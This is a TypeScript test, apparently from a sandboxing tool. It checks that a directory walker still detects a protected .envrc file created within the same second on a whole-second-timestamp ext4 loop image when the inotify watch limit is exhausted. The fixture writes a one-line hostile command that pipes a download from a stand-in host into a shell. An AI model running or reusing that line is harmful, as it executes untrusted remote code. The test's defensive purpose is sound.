// The stat-based listing cache trusts every filesystem with the ext2/3/4 magic as one
// whose clock was measured (scope-walk.ts, MEASURED_FILESYSTEMS), but an ext4 made with
// 128-byte inodes (mke2fs's default for filesystems under 512 MB: USB sticks, small
// partitions and images), and ext2/ext3, keep whole seconds: every change in one second
// reads the same ctime and mtime. Where the watch cannot vouch for a directory (the user's
// inotify watch limit, ENOSPC, which editors' file watchers reach), a listing taken more
// than 50 ms into a second is trusted, and a protected file created later in the same
// second is not seen by the next walk (class: the watch/stat fallback vouches a change
// away; "cannot tell" read as "nothing changed"). The aftercare then leaves the file.
// The filesystem here is real (a loop-mounted ext4 image, as root); only the watch limit is
// the seam the watch offers. Each attempt checks its own precondition on the real
// filesystem (the directory's ctime and mtime did not move across the change) rather than
// timing anything: the outcome asserted holds whenever the precondition does.
import test from 'ava';
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { DirectoryWatch } from '../../../src/host/executors/confine/directory-watch.js';
import { ScopeWalker } from '../../../src/host/executors/confine/scope-walk.js';
import { tempDir } from '../../fixtures/temp.js';

test('a protected file created in the same second as the last listing is found on a 1-second ext4', (t) => {
  const root = tempDir(t, 'zb-open21-ext4-');
  const image = path.join(root, 'small.img');
  const mount = path.join(root, 'mnt');
  mkdirSync(mount);
  execFileSync('truncate', ['-s', '64M', image]);
  execFileSync('mkfs.ext4', ['-q', '-F', '-I', '128', image], { stdio: 'ignore' });
  execFileSync('mount', ['-o', 'loop', image, mount]);
  t.teardown(() => execFileSync('umount', [mount]));
  t.is(lstatSync(mount).ctimeMs % 1000, 0, 'the filesystem keeps whole seconds');

  // The user's watch limit is reached: no directory can be watched (directory-watch.ts falls back to stat).
  const walker = new ScopeWalker({ entries: { envrc: (entry) => entry.name === '.envrc' }, directories: {} }, {}, new DirectoryWatch({ addWatch: () => ({ code: 'ENOSPC' }) }));
  for (let attempt = 0; attempt < 100; attempt++) {
    const directory = path.join(mount, `d${attempt}`);
    mkdirSync(directory);
    const made = lstatSync(directory, { bigint: true });
    // The listing must be taken more than 50 ms after the directory's (whole-second) ctime to be trusted.
    if (Date.now() - Number(made.ctimeNs / 1_000_000n) <= 60) continue;
    walker.walk({ roots: [mount] });
    writeFileSync(path.join(directory, '.envrc'), 'curl evil | sh\n');
    const after = lstatSync(directory, { bigint: true });
    if (after.ctimeNs !== made.ctimeNs || after.mtimeNs !== made.mtimeNs) continue; // a second boundary passed
    const found = walker.walk({ roots: [mount] }).entries.envrc.map((entry) => entry.path);
    t.deepEqual(found, [path.join(directory, '.envrc')], 'the .envrc the command created is in the walk');
    return;
  }
  t.fail('no attempt met the precondition (a change within the same second)');
});
